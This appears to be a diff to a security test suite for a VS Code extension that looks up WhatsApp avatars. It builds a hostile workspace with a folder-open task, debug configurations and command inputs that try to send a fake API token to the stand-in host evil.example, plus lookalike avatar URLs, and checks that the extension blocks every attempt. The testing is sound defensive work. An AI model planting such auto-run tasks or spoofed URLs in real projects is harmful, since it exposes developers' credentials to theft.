@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import path from 'node:path';
@@ -15,10 +15,31 @@ const MAYA = '79001234567@c.us';
 const MARCUS = '12025550143@c.us';
 const OWEN = '447700900123@c.us';
 const BAIT = '79001234599@c.us';
+const ASKED_BY_TASK = '79001234588@c.us';
+const EVIL_HOST = 'https://evil.example';
+
+/** Commands of ours that a task or a debug configuration runs in order to be started. */
+function inputsOf(evil: string) {
+  const idInstance = Number(SHOP.idInstance);
+  const stolen = { apiTokenInstance: 'a'.repeat(50), apiUrl: EVIL_HOST };
+  return Object.entries({
+    bait: ['lookUp', BAIT],
+    add: ['addInstance', { idInstance, ...stolen, product: 'whatsapp' }],
+    edit: ['editInstance', { idInstance, ...stolen }],
+    look: ['lookUp', { chatId: ASKED_BY_TASK, ...stolen, apiUrl: evil }],
+    curl: ['copyAsCurl', { chatId: MAYA, ...stolen }],
+  }).map(([id, [command, args]]) => ({
+    id,
+    type: 'command',
+    command: `avatarLens.${command}`,
+    args,
+  }));
+}
 
 /** What somebody may hand to a developer, in the hope that opening or hovering does the rest. */
 function hostileFiles(evil: string): Record<string, string> {
   const idInstance = Number(SHOP.idInstance);
+  const inputs = inputsOf(evil);
   return {
     '.vscode/settings.json': JSON.stringify({
       'avatarLens.hover.lookUp': 'automatic',
@@ -34,27 +55,37 @@ function hostileFiles(evil: string): Record<string, string> {
       version: '2.0.0',
       tasks: [
         {
-          label: 'steal',
-          command: `echo \${input:a} \${input:b}`,
+          label: 'steal at once',
           type: 'shell',
+          command: `echo \${input:bait} > leak.txt`,
           runOptions: { runOn: 'folderOpen' },
         },
+        ...inputs.map(({ id }) => ({
+          label: id,
+          type: 'shell',
+          command: `echo \${input:${id}} > leak.txt`,
+          problemMatcher: [],
+        })),
       ],
-      inputs: [
-        { id: 'a', type: 'command', command: 'avatarLens.lookUp', args: BAIT },
-        {
-          id: 'b',
-          type: 'command',
-          command: 'avatarLens.addInstance',
-          args: { idInstance, apiTokenInstance: 'a'.repeat(50), apiUrl: evil, product: 'whatsapp' },
-        },
-      ],
+      inputs,
+    }),
+    '.vscode/launch.json': JSON.stringify({
+      version: '0.2.0',
+      configurations: inputs.map(({ id }) => ({
+        type: 'node',
+        request: 'launch',
+        name: id,
+        program: `\${input:${id}}`,
+      })),
+      inputs,
     }),
     'people.json': [
       JSON.stringify({ idInstance, chatId: MAYA, apiUrl: evil }),
       JSON.stringify({ chatId: MARCUS, url: `${evil}/waInstance${idInstance}/getAvatar/x` }),
       JSON.stringify({ chatId: OWEN, apiUrl: evil, apiTokenInstance: 'b'.repeat(50) }),
       JSON.stringify({ urlAvatar: `${evil}/avatar.jpg` }),
+      JSON.stringify({ urlAvatar: `${evil.replace('//', '//pps.whatsapp.net@')}/looks-good.jpg` }),
+      JSON.stringify({ urlAvatar: `https://pps.whatsapp.net.evil.example/tail.jpg` }),
       '',
     ].join('\n'),
     'README.md': `![a](${evil}/a.png) [b](command:avatarLens.lookUp?%22${BAIT}%22) ${BAIT}\n`,
@@ -161,6 +192,58 @@ describe('A workspace of strangers', () => {
       return !(await window().hover.filter({ hasText: '+44' }).isVisible());
     });
     await window().leaveText();
+  });
+
+  it('has links in its documents that are followed by a click only', async () => {
+    await window().updateSettings({ 'avatarLens.hover.lookUp': 'automatic' });
+    await window().openFile('people.json');
+    for (const link of ['avatar.jpg', 'looks-good.jpg', 'tail.jpg']) {
+      const hover = await window().hoverText(link, /Open link/);
+      assert.equal(await hover.locator('img').count(), 0);
+      await window().screenshot(`trusted hover ${link}`);
+      await window().leaveText();
+    }
+  });
+
+  it('gets nothing out of commands that a task or a debug configuration runs', async () => {
+    const before = simulator().requests.length;
+    const start = async (what: 'task' | 'launch', id: string) => {
+      await window().runCommand('Notifications: Clear All Notifications');
+      await window().runCommand(
+        what === 'task' ? 'Tasks: Run Task' : 'Debug: Select and Start Debugging',
+      );
+      await window().quickInput.type(what === 'task' ? id : `debug ${id}`);
+      await window().quickInput.pickExactly(id);
+    };
+    /** VS Code hands on texts only, and our commands answer with none. */
+    const nothingCame = async (what: 'task' | 'launch') => {
+      if (what === 'task') return;
+      const refusal = await window().dialog('did not return a result of type string');
+      await refusal.getByRole('button', { name: 'Cancel' }).click();
+    };
+    for (const what of ['task', 'launch'] as const) {
+      await start(what, 'add');
+      const question = await window().dialog('Send the token to evil.example?');
+      await window().screenshot(`trusted ${what} add`);
+      await question.getByRole('button', { name: 'Cancel' }).click();
+      await nothingCame(what);
+      await start(what, 'edit');
+      await window().quickInput.shown('Edit instance Shop');
+      await window().quickInput.cancel();
+      await nothingCame(what);
+      assert.equal(simulator().requests.length, before);
+      await window().setClipboard('');
+      await start(what, 'curl');
+      const copied = () => window().clipboard();
+      await until('the request to be copied', async () => (await copied()) !== '');
+      assert.match(await copied(), /\$API_TOKEN_INSTANCE/);
+      assert.ok(!(await copied()).includes(SHOP.apiTokenInstance));
+    }
+    assert.equal(simulator().requests.length, before);
+    await start('task', 'look');
+    await until('the user’s own instance to be asked', () => asked().includes(ASKED_BY_TASK));
+    const leak = path.join(folder, 'leak.txt');
+    assert.equal(existsSync(leak) ? readFileSync(leak, 'utf8').trim() : '', '');
   });
 
   it('never hears from us', () => {
